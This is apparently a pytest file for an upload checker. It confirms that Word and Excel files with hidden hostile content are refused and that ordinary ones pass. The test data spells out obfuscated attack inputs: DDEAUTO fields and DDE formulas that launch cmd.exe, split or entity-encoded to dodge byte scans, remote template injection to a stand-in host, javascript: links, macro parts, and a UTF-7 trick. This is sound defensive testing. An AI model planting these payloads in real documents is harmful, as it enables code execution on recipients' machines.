"""What hides in the XML of an office file from a search of its bytes is found all the same."""

import pytest

from improvement_plans.tests.uploads import files
from improvement_plans.uploads import office
from improvement_plans.uploads.checking import check_file
from improvement_plans.uploads.kinds import NotTaken

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(attributes, tag="Relationship", name="word/_rels/document.xml.rels"):
    return {name: f"<Relationships><{tag} {attributes}/></Relationships>"}


def body(inner):
    return {"word/footnotes.xml": f"<w:p>{inner}</w:p>"}


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    return body(f"{begin}{runs}{end}")


def formula(text):
    return {"xl/worksheets/sheet1.xml": f"<sheetData><c><f>{text}</f></c></sheetData>"}


TEMPLATE = f'Type="{TYPE}attachedTemplate" Target="http://x.test/a.dotm"'
OUTSIDE = f'{TEMPLATE} TargetMode="External"'
HOSTILE_WORD = {
    "a letter as a number": (rels(f'{TEMPLATE} TargetMode="Externa&#108;"'), "fetches"),
    "a sign before the mode": (rels(f'Id="a>b" {OUTSIDE}'), "fetches"),
    "another prefix": (rels(OUTSIDE, tag="a-b:Relationship"), "fetches"),
    "a name in capitals": (rels(OUTSIDE, name="word/_rels/document.xml.RELS"), "fetches"),
    "a name without ending": (rels(OUTSIDE, name="word/relations"), "fetches"),
    "a hyperlink in a name": (rels(f'Id="Type=&quot;/hyperlink&quot;" {OUTSIDE}'), "fetches"),
    "a script as a link": (
        rels(f'Type="{TYPE}hyperlink" Target=" java&#115;cript:x" TargetMode="External"'),
        "fetches",
    ),
    "a program under a plain name": (
        rels('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a"'),
        "macros or other files",
    ),
    "a packed file": (rels(f'Type="{TYPE}package" Target="media/a.bin"'), "macros or other"),
    "a page of another kind": (rels(f'Type="{TYPE}aFChunk" Target="a.html"'), "macros or other"),
    "a field in pieces": (field(" D", "DEAU", "TO c:\\\\cmd.exe"), "starts other programs"),
    "a field in numbers": (field("&#68;DE cmd"), "starts other programs"),
    "a field that reads a file": (field('INCLUDETEXT "\\\\server\\a"'), "starts other programs"),
    "a field without an end": (body("<w:instrText>DDE cmd</w:instrText>"), "starts other"),
    "a simple field": (body("<w:fldSimple w:instr='DDEAUTO cmd'/>"), "starts other programs"),
    "another encoding": (
        {"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'},
        "cannot read",
    ),
    "wide letters in a part of any name": (
        {"word/a.dat": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")},
        "cannot read",
    ),
    "an unfinished part": ({"word/a.xml": "<a><b></a>"}, "cannot read"),
}
HOSTILE_EXCEL = {
    "a formula that starts a program": formula("cmd|'/C calc'!A0"),
    "a quoted program": formula("'cmd'|'/C calc'!A0"),
    "a formula in numbers": formula("cmd&#124;'/C calc'!A0"),
    "a function that reads a page": formula("_xlfn.WEBSERVICE(&quot;http://x.test&quot;)"),
    "a name that starts a program": {
        "xl/names.xml": "<definedName name='a'>cmd|'/C calc'!A0</definedName>"
    },
    "a link to another program": {"xl/externalLinks/a.xml": "<x:ddeLink ddeService='cmd'/>"},
}
HARMLESS = {
    "a link": rels(f'Type="{TYPE}hyperlink" Target="https://www.nhs.uk" TargetMode="External"'),
    "a date field": field(" DATE \\@ &quot;d MMMM&quot; "),
    "a link field": field(' HYPERLINK "https://www.nhs.uk" '),
    "words about it": body("<w:t>We do not use DDE | links</w:t>"),
    "a picture": {"word/media/image1.png": files.picture()},
    "a part of blanks": {"word/a.dat": b" \n"},
}


@pytest.mark.parametrize("name", HOSTILE_WORD)
def test_hidden_commands_in_word_are_found(name):
    more, words = HOSTILE_WORD[name]
    with pytest.raises(NotTaken, match=words):
        check_file("a.docx", files.office("docx", more=more))


@pytest.mark.parametrize("name", HOSTILE_EXCEL)
def test_hidden_commands_in_excel_are_found(name):
    with pytest.raises(NotTaken, match="starts other programs"):
        check_file("a.xlsx", files.office("xlsx", more=HOSTILE_EXCEL[name]))


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_parts_are_taken(name):
    assert check_file("a.docx", files.office("docx", more=HARMLESS[name])).kind == "docx"


@pytest.mark.parametrize(
    "text",
    [
        "SUM(A1:A9)",
        "&quot;a|b&quot;&amp;A1",
        "'Ward 1|2'!A1",
        "Table1[[#Headers],[Yes|No]]",
        "A1*2",
    ],
)
def test_everyday_formulas_are_taken(text):
    assert check_file("a.xlsx", files.office("xlsx", more=formula(text))).kind == "xlsx"


def test_a_part_that_is_there_twice_in_other_letters_is_refused():
    with pytest.raises(NotTaken, match="damaged"):
        check_file("a.docx", files.office(more={"WORD/document.XML": "<a/>"}))


def test_without_the_reader_a_template_from_elsewhere_would_come_in(monkeypatch):
    monkeypatch.setattr(office, "check_xml", lambda _text: None)
    more, _words = HOSTILE_WORD["a letter as a number"]
    assert check_file("a.docx", files.office("docx", more=more)).kind == "docx"
